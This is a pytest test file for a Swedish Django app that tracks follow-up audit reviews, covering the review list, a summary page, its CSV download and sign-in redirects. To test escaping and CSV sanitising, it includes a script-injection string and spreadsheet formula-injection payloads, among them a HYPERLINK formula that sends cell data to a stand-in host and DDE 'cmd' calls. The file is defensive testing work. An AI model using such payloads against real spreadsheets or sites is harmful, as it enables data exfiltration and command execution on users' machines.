"""The review list, the summary page and its CSV download."""

import csv
import io

import pytest
from bs4 import BeautifulSoup
from django.urls import reverse

from reviews.models import Audit
from tests.factories import ReviewFactory, build_review
from tests.helpers import table_cells
from tests.test_summary import SEED_TABLE

pytestmark = pytest.mark.django_db


class TestReviewList:
    def test_root_leads_to_the_list(self, auditor_client):
        response = auditor_client.get("/")
        assert response.status_code == 302
        assert response["Location"] == reverse("reviews:review-list")

    def test_it_lists_reviews_linking_to_their_summary(self, auditor_client, seed_review):
        response = auditor_client.get(reverse("reviews:review-list"))
        assert response.status_code == 200
        rows = table_cells(response.content.decode(), caption="Uppföljande granskningar")
        assert rows[0] == ["Titel", "Organisation", "År", "Revisionsbyrå", "Granskningar", "Skede"]
        assert rows[1] == [
            "Uppföljande granskning 2024",
            "Haninge kommun",
            "2024",
            "EY",
            "7",
            "Utkast",
        ]
        assert reverse("reviews:review-summary", args=[seed_review.pk]) in response.content.decode()

    def test_an_empty_list_says_so(self, auditor_client, db):
        response = auditor_client.get(reverse("reviews:review-list"))
        assert "Inga uppföljande granskningar ännu." in response.content.decode()

    @pytest.mark.parametrize("reviews", [1, 8])
    def test_the_list_takes_nine_queries_whatever_its_length(
        self, auditor_client, auditor_of, django_assert_num_queries, reviews
    ):
        for review in ReviewFactory.create_batch(reviews):
            auditor_of(review.organisation)
        # 1. session  2. user  3. count for the paginator  4. organisations for the filter
        # 5. years for the filter  6. the page of reviews with organisation, firm, audit count
        # 7. organisations for "new follow-up review for"  8.-9. the user's memberships and
        # their boards (the reviews and organisations they may see)
        with django_assert_num_queries(9):
            response = auditor_client.get(reverse("reviews:review-list"))
        assert len(table_cells(response.content.decode())) == reviews + 1


class TestReviewSummary:
    def test_it_shows_the_table_the_report_prints(self, auditor_client, seed_review):
        response = auditor_client.get(reverse("reviews:review-summary", args=[seed_review.pk]))
        assert response.status_code == 200
        html = response.content.decode()
        rows = table_cells(html, caption="Rekommendationer per granskning och status")
        assert rows[0] == ["Granskningar", "Åtgärdad", "Delvis åtgärdad", "Ej åtgärdad"]
        assert rows[1:] == SEED_TABLE

    def test_it_is_a_real_table_for_screen_readers(self, auditor_client, seed_review):
        response = auditor_client.get(reverse("reviews:review-summary", args=[seed_review.pk]))
        soup = BeautifulSoup(response.content, "html.parser")
        table = soup.find("table")
        assert [th["scope"] for th in table.thead.find_all("th")] == ["col"] * 4
        assert all(row.th["scope"] == "row" for row in table.tbody.find_all("tr"))
        assert (
            soup.find("h1").get_text(" ", strip=True)
            == "Uppföljande granskning 2024 Haninge kommun"
        )
        assert soup.html["lang"] == "sv"

    def test_it_shows_the_summary_text_escaped(self, auditor_client, auditor_of):
        review = build_review(audits=1, recommendations=1)
        auditor_of(review.organisation)
        review.summary = "Första stycket <script>alert(1)</script>\n\nAndra stycket."
        review.save()
        html = auditor_client.get(
            reverse("reviews:review-summary", args=[review.pk])
        ).content.decode()
        assert "&lt;script&gt;" in html and "<script>alert" not in html
        assert "<p>Andra stycket.</p>" in html

    def test_an_unknown_review_is_not_found(self, auditor_client, db):
        assert auditor_client.get(reverse("reviews:review-summary", args=[999])).status_code == 404

    @pytest.mark.parametrize("audits, recommendations", [(2, 2), (10, 13)])
    def test_the_page_takes_ten_queries_whatever_the_size(
        self, auditor_client, auditor_of, django_assert_num_queries, audits, recommendations
    ):
        review = build_review(audits=audits, recommendations=recommendations)
        auditor_of(review.organisation)
        # 1. session  2. user  3.-4. the user's memberships and their boards
        # 5. the review with organisation and firm  6. the per-audit status counts
        # 7. the new recommendations it issued (with their boards and what they continue,
        # when there are some)  8. its last attempt to publish (a draft, for who may
        # change it)  9.-10. the boards' plans' risks and controls that took in the
        # recommendations it found partly or not implemented (with their links and those
        # assessments, when there are some)
        with django_assert_num_queries(10):
            response = auditor_client.get(reverse("reviews:review-summary", args=[review.pk]))
        assert len(table_cells(response.content.decode())) == audits + 2


class TestSummaryCsv:
    def test_it_downloads_the_table(self, auditor_client, seed_review):
        response = auditor_client.get(reverse("reviews:review-summary-csv", args=[seed_review.pk]))
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert (
            response["Content-Disposition"]
            == 'attachment; filename="haninge-kommun-uppfoljande-granskning-2024.csv"'
        )
        text = response.content.decode("utf-8")
        assert text.startswith("\ufeffGranskningar;Åtgärdad;Delvis åtgärdad;Ej åtgärdad\r\n")
        assert text.endswith("Totalt:;31;13;0\r\n")

    def test_an_unknown_review_is_not_found(self, auditor_client, db):
        assert (
            auditor_client.get(reverse("reviews:review-summary-csv", args=[999])).status_code == 404
        )

    @pytest.mark.parametrize(
        "title",
        [
            '=HYPERLINK("http://example.invalid/?d="&A1;"Klicka")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ],
    )
    def test_a_title_a_spreadsheet_would_run_is_written_as_text(
        self, auditor_client, auditor_of, title
    ):
        review = build_review(audits=1, recommendations=1)
        auditor_of(review.organisation)
        Audit.objects.filter(reviews=review).update(title=title)
        response = auditor_client.get(reverse("reviews:review-summary-csv", args=[review.pk]))
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
        assert rows[1][0] == f"'{title} (2022)"
        assert rows[1][1:] == ["1", "0", "0"]  # counts stay numbers

    def test_the_summary_page_links_to_it(self, auditor_client, seed_review):
        html = auditor_client.get(
            reverse("reviews:review-summary", args=[seed_review.pk])
        ).content.decode()
        assert reverse("reviews:review-summary-csv", args=[seed_review.pk]) in html


@pytest.mark.parametrize(
    "name, args",
    [
        ("reviews:review-list", []),
        ("reviews:review-summary", [1]),
        ("reviews:review-summary-csv", [1]),
        ("reviews:assessment-screen", [1, 1]),
    ],
)
def test_anonymous_users_are_sent_to_sign_in(client, seed_review, name, args):
    url = reverse(name, args=args)
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('login')}?next={url}"


def test_signing_in_leads_back_to_the_page_asked_for(client, auditor, seed_review):
    url = reverse("reviews:review-summary", args=[seed_review.pk])
    response = client.post(
        f"{reverse('login')}?next={url}",
        {"username": "anna", "password": "anna-lösenord-1", "next": url},
    )
    assert response.status_code == 302
    assert response["Location"] == url


def test_a_wrong_password_is_refused_in_swedish_keeping_the_username(client, auditor):
    response = client.post(reverse("login"), {"username": "anna", "password": "fel"})
    assert response.status_code == 200
    html = response.content.decode()
    assert "Ange ett korrekt användarnamn och lösenord" in html
    assert 'value="anna"' in html
